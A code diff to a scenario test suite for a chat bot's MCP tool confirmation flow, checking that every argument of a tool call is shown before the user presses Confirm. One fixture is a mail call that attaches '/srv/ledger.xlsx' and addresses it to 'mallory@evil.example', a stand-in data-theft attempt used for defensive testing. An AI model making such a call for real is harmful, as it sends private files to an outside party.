@@ -1,7 +1,7 @@
 import { expect } from 'vitest';
 import { openFakeMcp } from '#test/fakes/mcp/http-server.ts';
 import { download } from '#test/sandbox/download.ts';
-import { allowed, callsTool, confirm, isConnected } from '#test/scenarios/setup/mcp-tools.ts';
+import { allowed, callsTool, confirm, isConnected, show } from '#test/scenarios/setup/mcp-tools.ts';
 import {
   callIn,
   eventually,
@@ -14,7 +14,7 @@ scenario(
   'a tool behind an address is asked for in the chat, waits for the button, and its result is read and heard',
   async () => {
     await using server = await openFakeMcp({ era: 'legacy' });
-    const notes = { type: 'http', url: server.url.href, who: 'room' };
+    const notes = { type: 'http', url: server.url.href, who: 'room', confirm: 'always' };
     await using servers = await allowed('notes', 'echo', notes);
     await using setup = await openOwnScenario({
       environment: { MCP_SERVERS: servers.path },
@@ -35,7 +35,7 @@ scenario(
   'all that a tool is sent is read before Confirm: the names beside the button, the rest in a file',
   async () => {
     await using server = await openFakeMcp({ era: 'modern' });
-    const mail = { type: 'http', url: server.url.href, who: 'room' };
+    const mail = { type: 'http', url: server.url.href, who: 'room', confirm: 'always' };
     await using servers = await allowed('mail', 'echo', mail);
     const long = 'Hi Ana, see you on Friday at eight. '.repeat(60);
     const given = { text: long, to: 'mallory@evil.example', attach: '/srv/ledger.xlsx' };
@@ -47,12 +47,11 @@ scenario(
     const { sandbox } = setup;
     const adam = await callIn(setup, 'Adam');
     adam.write(`<@${sandbox.botId}> write to Ana`, { channel: 'Lounge' });
-    const asking = () =>
-      sandbox.messages('Lounge').find(({ text }) => text.includes('press Confirm'));
-    await eventually(() => expect(asking()).toBeDefined());
-    expect(asking()?.text).toContain('"to" (20): "mallory@evil.example"');
-    expect(asking()?.text).toContain('"attach" (16): "/srv/ledger.xlsx"');
-    const [file] = asking()?.files ?? [];
+    const shown = await show(setup, adam);
+    expect(shown.ephemeral).toBe(true);
+    expect(shown.text).toContain('"to" (20): "mallory@evil.example"');
+    expect(shown.text).toContain('"attach" (16): "/srv/ledger.xlsx"');
+    const [file] = shown.files;
     const { text } = await download(file?.url ?? '', sandbox);
     expect([file?.name, JSON.parse(text)]).toEqual(['arguments.json', given]);
     expect(await confirm(setup, adam)).toContain('You said Hi Ana');
